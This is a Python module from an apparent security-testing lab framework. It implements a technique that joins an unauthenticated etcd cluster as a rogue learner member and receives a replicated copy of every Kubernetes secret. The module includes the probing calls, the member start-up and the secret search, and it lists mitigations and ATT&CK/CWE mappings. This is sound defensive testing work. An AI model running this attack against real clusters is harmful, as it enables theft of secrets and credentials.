"""Join the etcd cluster as a member and receive a copy of every secret.

Members send each other the whole store. The attacker needs a connection to the client port and
the peer port of etcd. They ask the client port to add a learner (a member without a vote, so the
cluster is not at risk), start their own etcd, and find the secrets in its files. Client
certificates between the members stop it, and so do users in etcd. With encryption at rest, the
copy holds only ciphertext.
"""

from __future__ import annotations

import json
import secrets
from concurrent.futures import Future
from typing import TYPE_CHECKING

from labkit import agents
from labkit.errors import ProbeError
from labkit.lab.parallel import aside
from labkit.lab.traces import Trace, leaving
from labkit.model import Foothold, Model, read_model
from labkit.techniques._lib.api.ask import first_refusal, url_of
from labkit.techniques._lib.machines.reach import attacker, request, run
from labkit.techniques._lib.machines.waiting import wait_for
from labkit.techniques._lib.stores.etcd import answers_anonymous, client_channel, stores_plaintext
from labkit.techniques._lib.stores.secret import Secret, fresh_secret
from labkit.techniques._lib.technique import NETWORK, SECRETS, Prediction, Technique, all_of, then
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab, Output

__all__ = ["TECHNIQUE"]

PEERS = "* -> etcd@etcd1:2380"
SECRET = "labkit-rogue-member"  # noqa: S105 - its name
KEY = f"/registry/secrets/default/{SECRET}"
NAME, PORT, PATIENCE = "labkit-rogue", 23800, 20.0


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether peers and etcd accept callers without a credential, and store plaintext."""
    peers = model.open_channels(PEERS)[0]
    joins = first_refusal((peers.client_authentication, ("none",)))
    return then(all_of(joins, answers_anonymous(model)), stores_plaintext(model))


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Call the peer port and the client port without a credential, and join if both answer."""
    model = read_model(lab.environment)
    client = client_channel(lab)
    calls = (
        ("members' port", url_of(model.open_channels(PEERS)[0], "/members"), None),
        ("clients' port", url_of(client, "/v3/cluster/member/list"), b"{}"),
    )
    evidence: list[str] = []
    for name, url, body in calls:
        answer = request(lab, url, foothold=foothold, body=body)
        evidence.append(f"called the {name} of {client.server}, without a credential")
        if answer.refusal.startswith("HTTP") and b"user name is empty" not in answer.body:
            raise ProbeError(f"the {name} gave an inconclusive answer: {answer.refusal}")
        if answer.refusal:
            reason = answer.refusal
            return Verdict(
                TECHNIQUE.name, lab.mode, foothold, False, reason, tuple(evidence), _control(lab)
            )
    with fresh_secret(lab, SECRET) as secret:
        return _join(lab, foothold, url_of(client, ""), secret, evidence)


def _join(
    lab: Lab, foothold: Foothold, endpoint: str, secret: Secret, evidence: list[str]
) -> Verdict:
    folder = f"/tmp/labkit-{secrets.token_hex(4)}"  # noqa: S108 - of the attacker's machine
    own = f"http://{lab.addresses[attacker(lab)]}:{PORT}"
    here = attacker(lab)
    argv = agents.argv("etcd_member", folder, endpoint, own, NAME)
    left = (Trace("member", own), Trace("program", folder, here))
    with aside() as pool, leaving(lab, *left):
        future = pool.submit(run, lab, here, argv, timeout=2 * PATIENCE, check=True)
        found = _wait(lab, folder, secret, future)
    evidence += ["was taken in as a learner, and started an etcd that nobody invited"]
    if not found:
        reason, control = "the replicated value is a ciphertext", f"{KEY} was replicated"
        return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, tuple(evidence), control)
    evidence.append(f"found in its files: {secret.proof}")
    reason = "etcd replicates to all new peers"
    return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, tuple(evidence))


def _wait(lab: Lab, folder: str, secret: Secret, member: Future[Output]) -> bool:
    """Wait until the secret's key is in the files, and say whether its value is there too."""
    search = ["grep", "--recursive", "--quiet", "--fixed-strings", "--file=-", f"{folder}/data"]

    def replicated() -> bool:
        if member.done():
            member.result()  # it raises the member's own error
        return run(lab, attacker(lab), search, stdin=KEY.encode()).exit_code == 0

    wait_for(lab, replicated, PATIENCE, "the rogue member received no copy of the secret")
    return run(lab, attacker(lab), search, stdin=secret.value).exit_code == 0


def _control(lab: Lab) -> str:
    listed = json.loads(lab.etcdctl("member", "list", "--write-out=json").stdout)["members"]
    started = sum(bool(member.get("name")) for member in listed)
    lab.etcdctl("endpoint", "health")
    return f"the {started} members know one another and are healthy"


TECHNIQUE = Technique(
    name="etcd-rogue-member",
    title="Join etcd as a member and be sent every secret",
    footholds=(NETWORK,),
    grants=(SECRETS,),
    about="etcd@* -> etcd@*",
    properties=("encryption", "client_authentication"),
    attack=("T1136", "T1552.007"),
    stride=("spoofing", "information disclosure"),
    cwe=("CWE-306",),
    sources=(
        "Securing communications in Kubernetes (2016), etcd",
        "https://etcd.io/docs/latest/op-guide/security/",
        "https://attack.mitre.org/techniques/T1552/007/",
    ),
    predict=predict,
    execute=execute,
    leaves=("object", "member", "program"),
)
